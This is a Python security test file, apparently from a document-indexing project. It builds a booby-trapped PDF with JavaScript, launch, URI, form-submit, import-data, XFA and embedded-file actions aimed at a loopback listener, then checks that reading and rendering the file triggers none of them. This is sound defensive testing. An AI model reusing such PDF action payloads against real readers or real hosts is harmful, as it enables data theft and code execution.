"""Scripts, launch actions, embedded files and remote references of a PDF are never followed.

They are not, because nothing that reads, renders or verifies a page runs actions: MuPDF's JavaScript is used by form
filling alone, which is never asked for, external streams are not part of it, and nobody opens attachments. Held here
by a listener on loopback, a file that would tell, and a program that would leave a mark.
"""

from __future__ import annotations

import socket
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest

from kb.build import Order, build
from kb.knowledge import open_kb
from tests.hostile.crafted import TEXT, page, stream

SECRET = "Un secret du disque qui ne doit jamais paraître"
ATTACHED = "Une phrase du fichier joint qui ne doit jamais paraître"


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        yield server


def trap(port: int, secret: Path, mark: Path) -> bytes:
    """A page with every way out that a PDF has."""
    url = b"http://127.0.0.1:%d/" % port
    named, marked = str(secret).encode(), str(mark).encode()
    script = b"/S /JavaScript /JS (app.launchURL('%s'); this.submitForm('%s'); this.importDataObject('x', '%s');)" % (
        url, url, named,
    )  # fmt: skip
    actions = b"[11 0 R 12 0 R 13 0 R 14 0 R 15 0 R]"
    return page(
        b"[4 0 R 20 0 R 21 0 R]".replace(b"4 0 R", b"22 0 R"),
        catalogue=(
            b"/OpenAction 10 0 R /AA << /WC 10 0 R /DS 11 0 R >> /URI << /Base (%s) >>"
            b" /Names << /JavaScript << /Names [(a) 10 0 R] >> /EmbeddedFiles << /Names [(f.pdf) 16 0 R] >> >>"
            b" /AcroForm << /Fields [18 0 R] /XFA 19 0 R /NeedAppearances true >>" % url
        ),
        entries=b"/AA << /O 10 0 R /C 11 0 R >> /Annots [18 0 R 23 0 R 24 0 R]",
        more={
            10: b"<< %s /Next %s >>" % (script, actions),
            11: b"<< /S /Launch /F (/bin/touch) /Unix << /F (/bin/touch) /P (%s) >> >>" % marked,
            12: b"<< /S /URI /URI (%s) >>" % url,
            13: b"<< /S /GoToR /F << /FS /URL /F (%s) >> /D [0 /Fit] >>" % url,
            14: b"<< /S /SubmitForm /F << /FS /URL /F (%s) >> >>" % url,
            15: b"<< /S /ImportData /F (%s) >>" % named,
            16: b"<< /Type /Filespec /F (f.txt) /EF << /F 17 0 R >> >>",
            17: stream(ATTACHED.encode("latin-1"), b"/Type /EmbeddedFile"),
            18: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [9 9 99 99] /A 10 0 R /AA << /PO 10 0 R"
            b" /F << %s >> >> >>" % script,
            19: stream(b"<template><event><script>xfa.host.gotoURL('%s')</script></event></template>" % url),
            # a stream whose bytes are said to stand in another file, and one said to stand behind an address
            20: stream(b"", b"/F (%s)" % named),
            21: stream(b"", b"/F << /FS /URL /F (%s) >>" % url),
            22: stream(TEXT),
            23: b"<< /Type /Annot /Subtype /FileAttachment /FS 16 0 R /Rect [9 9 20 20] /Contents (joint) >>",
            24: b"<< /Type /Annot /Subtype /Screen /Rect [9 9 99 99] /A << /S /Rendition /OP 0 /JS (%s) >> >>" % url,
        },
    )


def test_no_way_out_of_a_pdf_is_taken(tmp_path: Path, listener: socket.socket) -> None:
    secret, mark = tmp_path / "secret.txt", tmp_path / "mark"
    secret.write_text(f"BT /F1 12 Tf 72 600 Td ({SECRET}) Tj ET", encoding="latin-1")
    folder = tmp_path / "c"
    folder.mkdir()
    (folder / "a.pdf").write_bytes(trap(listener.getsockname()[1], secret, mark))
    (file,) = build(Order(folder, tmp_path / "kb", "whoosh")).files
    assert file.refusal is None, file.reason
    with closing(open_kb(tmp_path / "kb")) as base:
        said = str(base.show_json("a"))
        assert base.page_image("a", None, 1).startswith(b"\x89PNG")
    assert "Mirels" in said, "the page itself is read"
    assert SECRET not in said and ATTACHED not in said
    assert not mark.exists()
    with pytest.raises(TimeoutError):
        listener.accept()
